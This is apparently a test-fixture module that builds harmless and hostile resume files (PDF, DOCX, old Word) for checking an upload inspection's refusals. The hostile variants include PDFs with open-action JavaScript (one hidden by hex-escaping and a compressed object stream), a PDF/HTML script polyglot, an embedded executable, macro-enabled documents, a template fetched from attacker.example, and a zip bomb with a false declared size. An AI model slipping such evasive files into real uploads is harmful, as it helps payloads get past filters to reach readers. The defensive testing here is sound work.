/** Resumes built in code: a plain PDF and DOCX, and the hostile variants the upload inspection must refuse. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/**
 * A PDF whose objects are written as given (numbered from 1), with a correct cross-reference table;
 * `trailer` adds entries to the trailer dictionary.
 */
export function pdfWith(objects: string[], options: { prefix?: string; trailer?: string } = {}): Buffer {
  let body = `${options.prefix ?? ''}%PDF-1.7\n%\xE2\xE3\xCF\xD3\n`;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const page = (contents: string) => [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  `<< /Length ${contents.length} >>\nstream\n${contents}\nendstream`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
];

export const plainPdf = () => pdfWith(page('BT /F1 18 Tf 72 720 Td (Jane Applicant - Resume) Tj ET'));

let resumeCounter = 0;
/** A harmless PDF whose bytes differ from every other one of this run (identical resumes share one stored file). */
export const distinctPdf = () => pdfWith(page(`BT /F1 18 Tf 72 720 Td (Resume ${process.pid}-${++resumeCounter}) Tj ET`));

/** A PDF that runs JavaScript when opened (its catalog's open action). */
export function pdfWithJavaScript(): Buffer {
  const objects = page('BT /F1 18 Tf 72 720 Td (Resume) Tj ET');
  objects[0] = '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>';
  objects.push("<< /Type /Action /S /JavaScript /JS (app.alert('hello')) >>");
  return pdfWith(objects);
}

/** The same open action, hidden: its name hex-escaped and its object inside a compressed object stream. */
export function pdfWithHiddenJavaScript(): Buffer {
  const objects = page('BT /F1 18 Tf 72 720 Td (Resume) Tj ET');
  objects[0] = '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>';
  const hidden = "<< /Type /Action /S /J#61vaScript /J#53 (app.alert('hidden')) >>";
  const compressed = deflateSync(Buffer.from(`7 0 ${hidden}`, 'latin1')).toString('latin1');
  objects.push(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${compressed.length} >>\nstream\n${compressed}\nendstream`);
  return pdfWith(objects);
}

/** A file both a PDF reader and a browser open: HTML with a script before the PDF header. */
export const pdfHtmlPolyglot = () => pdfWith(page('BT /F1 18 Tf 72 720 Td (Resume) Tj ET'), { prefix: '<html><body><script>alert(document.domain)</script></body></html>\n' });

/** A PDF carrying another file. */
export function pdfWithEmbeddedFile(): Buffer {
  const objects = page('BT /F1 18 Tf 72 720 Td (Resume) Tj ET');
  objects[0] = '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>';
  objects.push('<< /Type /Filespec /F (a.exe) >>');
  return pdfWith(objects);
}

export interface ZipPart {
  name: string;
  content: string | Buffer;
  /** The uncompressed size the archive claims (a lie when set): the inspection must not trust it. */
  declaredSize?: number;
}

/** A zip archive, every part deflated. */
export function zip(parts: ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const data = typeof part.content === 'string' ? Buffer.from(part.content, 'utf8') : part.content;
    const compressed = deflateRawSync(data, { level: 9 });
    const name = Buffer.from(part.name, 'utf8');
    const size = part.declaredSize ?? data.length;
    // The fields a local header and its central directory entry share, from "version needed to extract" on.
    const writeEntry = (header: Buffer, at: number) => {
      header.writeUInt16LE(20, at);
      header.writeUInt16LE(0x800, at + 2);
      header.writeUInt16LE(8, at + 4);
      header.writeUInt32LE(crc32(data), at + 10);
      header.writeUInt32LE(compressed.length, at + 14);
      header.writeUInt32LE(size, at + 18);
      header.writeUInt16LE(name.length, at + 22);
    };
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    writeEntry(local, 4);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    writeEntry(central, 6);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += local.length + name.length + compressed.length;
  }
  const centralSize = centrals.reduce((sum, part) => sum + part.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, ...centrals, end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const MAIN_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_MAIN_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const contentTypes = (mainType: string, extra = '') =>
  `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${mainType}"/>${extra}</Types>`;
const relationships = (items: string) => `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
const rel = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;

/** A minimal Word document; `parts` adds or replaces parts, `mainType` changes the document's content type. */
export function docxWith(options: { parts?: ZipPart[]; mainType?: string; documentRels?: string } = {}): Buffer {
  const parts: ZipPart[] = [
    { name: '[Content_Types].xml', content: contentTypes(options.mainType ?? MAIN_TYPE) },
    { name: '_rels/.rels', content: relationships(rel('rId1', 'officeDocument', 'word/document.xml')) },
    {
      name: 'word/document.xml',
      content: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Jane Applicant - Resume</w:t></w:r></w:p></w:body></w:document>`,
    },
    { name: 'word/_rels/document.xml.rels', content: relationships(options.documentRels ?? rel('rId5', 'hyperlink', 'https://www.linkedin.com/in/jane', true)) },
  ];
  for (const part of options.parts ?? []) {
    const at = parts.findIndex((existing) => existing.name === part.name);
    if (at >= 0) parts[at] = part;
    else parts.push(part);
  }
  return zip(parts);
}

export const plainDocx = () => docxWith();

/** A macro-enabled Word document: its VBA project and the macro-enabled content type. */
export const macroDocx = () =>
  docxWith({
    mainType: MACRO_MAIN_TYPE,
    parts: [{ name: 'word/vbaProject.bin', content: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]) }],
  });

/** A document whose settings attach a template fetched from a remote server when it opens. */
export const remoteTemplateDocx = () =>
  docxWith({
    parts: [
      {
        name: 'word/_rels/settings.xml.rels',
        content: relationships(rel('rId1', 'attachedTemplate', 'https://attacker.example/template.dotm', true)),
      },
    ],
  });

/** A document of a few hundred kilobytes whose media part inflates to `megabytes` of zeros, claiming 1 KB. */
export const inflatingDocx = (megabytes: number) =>
  docxWith({ parts: [{ name: 'word/media/image1.png', content: Buffer.alloc(megabytes * 1024 * 1024), declaredSize: 1024 }] });

/** An old Word file (OLE compound file) whose directory has a `Macros` storage. */
export function macroOleDoc(): Buffer {
  const file = Buffer.alloc(512 * 4);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file, 0);
  file.writeUInt16LE(0x3e, 24);
  file.writeUInt16LE(3, 26);
  file.writeUInt16LE(0xfffe, 28);
  file.writeUInt16LE(9, 30);
  const entry = (at: number, name: string, type: number) => {
    file.write(name, at, 'utf16le');
    file.writeUInt16LE((name.length + 1) * 2, at + 64);
    file[at + 66] = type;
  };
  entry(1024, 'Root Entry', 5);
  entry(1024 + 128, 'WordDocument', 2);
  entry(1024 + 256, 'Macros', 1);
  return file;
}
